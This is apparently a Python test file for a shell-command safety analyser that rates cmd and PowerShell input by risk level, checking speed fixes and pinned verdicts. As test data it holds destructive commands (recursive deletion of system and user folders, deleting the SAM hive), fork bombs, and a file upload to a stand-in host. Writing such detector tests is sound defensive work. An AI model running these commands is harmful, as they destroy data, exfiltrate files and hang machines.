"""Session 22's speed work on PowerShell, cmd and the worst cases (sb22).

- cmd's nested `for /f %i in ('dir /b') do (` (10,000 characters, 'nested for /f bodies':
  49 ms idle, the one pathological input over the 50 ms bar) read the set of every one of
  its 333 loop heads (`_set_items`: each item classified to sort the worst first, the
  `dir /b` listing matched) although only the outermost head has a loop variable left: the
  first level puts its set in place of `%i` everywhere below it, and a head without a
  variable hands its body on unchanged whatever its set says. `_for_body` now returns the
  body before reading the set when there is no variable (every path past that point
  returned it unchanged). `_listing_files` copied the rest of the line at each `for` to ask
  whether an `in` follows (390,000 words copied): it asks where the last `in` stands once.

Tests never time anything: they count the calls the change removed (they fail on the code
before it, and each counted function has a control text that must reach it) and pin
verdicts; `bench/sp9b_verdicts.py` dumps of every corpus row before and after show no
difference (levels, findings, spans, budget steps).
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from aintern_ls.safety import cmd, powershell
from aintern_ls.safety.analyser import _assess_cached
from aintern_ls.safety.levels import RiskLevel
from tests.safety.test_s20_speed import _stand_in
from tests.safety.test_s21_speed import _calls

analyse = _assess_cached.__wrapped__


NESTED_FOR = "for /f %i in ('dir /b') do (" * 300 + "echo %i" + ")" * 300


def test_nested_for_heads_without_a_variable_do_not_read_their_sets() -> None:
    with _calls(cmd, "_set_items") as items:
        got = analyse(NESTED_FOR, "cmd", None)
    # before sb22: 300 sets read (one per head); only the outermost has a variable
    assert items.calls <= 2, items.calls
    assert got.level == RiskLevel.SAFE
    with _calls(cmd, "_set_items") as control:
        analyse("for /f %i in ('dir /b') do echo %i", "cmd", None)
    assert control.calls == 1


def test_loops_keep_their_verdicts() -> None:
    cases = {
        "for /d %i in (C:\\Users\\*) do rd /s /q %i": RiskLevel.BLOCKED,
        "for /f %i in ('dir /b') do del /q %i": RiskLevel.BLOCKED,
        "for %a in (C:\\Windows C:\\x) do rd /s /q %a": RiskLevel.BLOCKED,
        "for /f %i in ('dir /b *.log') do del /q %i": RiskLevel.DANGEROUS,
        "for %a in (1 2 3) do echo %a": RiskLevel.SAFE,
        # a head whose variable was already replaced (nested, same letter): its body as is
        "for %a in (C:\\x) do for %a in (C:\\Windows) do echo %a": RiskLevel.SAFE,
    }
    for text, level in cases.items():
        assert analyse(text, "cmd", None).level == level, text


WORD_AND_LIST = "x (" + "a&&" * 1000 + "a)"


def test_a_text_without_a_loop_does_not_look_for_one_at_every_segment() -> None:
    with _calls(cmd, "_lead") as lead:
        got = analyse(WORD_AND_LIST, "cmd", None)
    # before sb22: 2,002 calls (each segment, and each parenthesis once words stood)
    assert lead.calls <= 2, lead.calls
    assert got.level == RiskLevel.MODERATE
    with _calls(cmd, "_lead") as control:
        analyse("for %a in (C:\\Windows) do (rd /s /q %a)", "cmd", None)
    assert control.calls >= 1


def test_every_spelling_of_a_for_word_lets_the_loop_readers_run() -> None:
    # cmd drops quotes and carets (a caret before a line break joins the lines)
    spellings = ["for", "FOR", "@for", 'f"o"r', "f^or", '"for"', "fo^\nr", "F^O^R", '@F"or"']
    for spelling in spellings:
        text = f"{spelling} %a in (C:\\Windows C:\\x) do (rd /s /q %a)"
        assert cmd._may_loop(text), spelling
        segments, _ = cmd._tokenise(text)
        assert cmd._lead(segments[0][0]) == "for", spelling
        assert analyse(text, "cmd", None).level == RiskLevel.BLOCKED, spelling
    for text in ("x (a&&b)", "echo (fo r)", 'echo "f" or'):
        assert not cmd._may_loop(text), text


class _Searches:
    """A compiled pattern's stand-in that counts its searches (`search`, `finditer`); its
    other attributes are the pattern's (`.pattern`, `.flags`: the needle gate reads them)."""

    def __init__(self, compiled: re.Pattern[str]) -> None:
        self.compiled = compiled
        self.calls = 0

    def search(self, text: str, *args: Any) -> re.Match[str] | None:
        self.calls += 1
        return self.compiled.search(text, *args)

    def finditer(self, text: str, *args: Any) -> Any:
        self.calls += 1
        return self.compiled.finditer(text, *args)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.compiled, name)


ORDINARY_PS = [
    "Remove-Item -Recurse -Force build",
    "Get-ChildItem -Path C:\\temp -Recurse | Select-Object Name, Length",
    "Copy-Item -Force a.txt b.txt",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
    "Write-Host 'formatting done'",
]
# (pattern, a text that must reach its search)
CONTROLS = {
    "_ENDLESS_SPAWN": "while ($true) { Start-Process notepad }",
    "_WMICLASS_CREATE": "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\')",
    "_NET_WRITE": "[IO.File]::WriteAllText('x.ps1', 'Remove-Item -Recurse C:\\')",
    "_WEB_UPLOAD": "(New-Object Net.WebClient).UploadFile('http://x.example/u', 'C:\\a.txt')",
    "_IO_DELETE": "[System.IO.File]::Delete('C:\\Windows\\win.ini')",
    "_DASH_LED": "ls; -name x",
}


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_ordinary_powershell_is_not_searched_for_what_it_cannot_hold(name: str) -> None:
    with _stand_in(powershell, name, _Searches) as searches:
        for text in ORDINARY_PS:
            analyse(text, "powershell", None)
    # before sb22: one search a text (`_ENDLESS_SPAWN`: those holding `for`, as `-Force`)
    assert searches.calls == 0, (name, searches.calls)
    with _stand_in(powershell, name, _Searches) as control:
        analyse(CONTROLS[name], "powershell", None)
    assert control.calls >= 1, name


def test_the_gated_powershell_readers_keep_their_verdicts() -> None:
    cases = {
        "while ($true) { Start-Process powershell }": RiskLevel.BLOCKED,
        "for (;;) { saps cmd }": RiskLevel.BLOCKED,
        "do { Start-Job { 1 } } while ($true)": RiskLevel.BLOCKED,
        "1..[int]::MaxValue | % { Start-Process cmd }": RiskLevel.BLOCKED,
        "while ($true) { Start-Process notepad; Start-Sleep 5 }": RiskLevel.MODERATE,
        "[IO.File]::Delete('C:\\Windows\\System32\\config\\SAM')": RiskLevel.BLOCKED,
        "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\')": RiskLevel.BLOCKED,
        "Remove-Item -Recurse -Force build": RiskLevel.DANGEROUS,
    }
    for text, level in cases.items():
        assert analyse(text, "powershell", None).level == level, text


ORDINARY_CMD = [
    "dir /b /s C:\\temp",
    "copy a.txt b.txt",
    "del /q build\\*.obj",
    "echo %PATH% & cd %USERPROFILE%",
    "if exist out rd /s /q out",
]


def test_ordinary_cmd_is_not_searched_for_a_process_spawner() -> None:
    with _stand_in(cmd, "_SPAWN", _Searches) as searches:
        for text in ORDINARY_CMD:
            analyse(text, "cmd", None)
    # before sb22: one search a text (case-blind, no literal prefix)
    assert searches.calls == 0, searches.calls
    with _stand_in(cmd, "_SPAWN", _Searches) as control:
        analyse("echo %~dp0 & start notepad", "cmd", None)
    assert control.calls >= 1


def test_batch_fork_bombs_keep_their_verdicts() -> None:
    cases = {
        ":a\nstart cmd\ngoto a": RiskLevel.BLOCKED,
        ':loop\n@START "" notepad.exe\ngoto loop': RiskLevel.BLOCKED,
        ":x\ncall %~f0\ngoto x": RiskLevel.BLOCKED,
        ":x\n%0\ngoto x": RiskLevel.BLOCKED,
        "for /l %i in (1,0,2) do start cmd": RiskLevel.BLOCKED,
        "for /l %i in (1,1,5) do start cmd": RiskLevel.MODERATE,
        ":a\nstart cmd\nexit": RiskLevel.MODERATE,
    }
    for text, level in cases.items():
        assert analyse(text, "cmd", None).level == level, text


# Review 22 S1: cmd takes any one character as a `for` variable (`%%#`, `%%1`, `%%@`, `%%$`),
# and the variable is the word just before `in` (a `/r %1` root before it is a folder).
@pytest.mark.parametrize("var", ["%%#", "%#", "%%1", "%%@", "%%$", "%%a"])
def test_a_loop_variable_of_any_character_stands_for_the_set(var: str) -> None:
    tilde = var[:-1] + "~f" + var[-1]
    for body in (f"rd /s /q {var}", f'rd /s /q "{var}"', f'rd /s /q "{tilde}"'):
        text = f"for /d {var} in (C:\\Users\\*) do {body}"
        assert analyse(text, "cmd", None).level == RiskLevel.BLOCKED, text
    assert analyse(f"for {var} in (1 2 3) do echo {var}", "cmd", None).level == RiskLevel.SAFE
    named = f"for {var} in (a.txt b.txt) do del {var}"
    assert analyse(named, "cmd", None).level == RiskLevel.DANGEROUS


def test_the_variable_is_the_word_before_in() -> None:
    for text in ('for /r %1 %%f in (*) do del "%%f"', 'for /r . %%# in (*) do del /q "%%#"'):
        assert analyse(text, "cmd", None).level == RiskLevel.BLOCKED, text
    tokens = 'for /f "tokens=1,2" %%# in ("rd C:\\Windows") do %%# /s /q %%$'
    assert analyse(tokens, "cmd", None).level == RiskLevel.BLOCKED
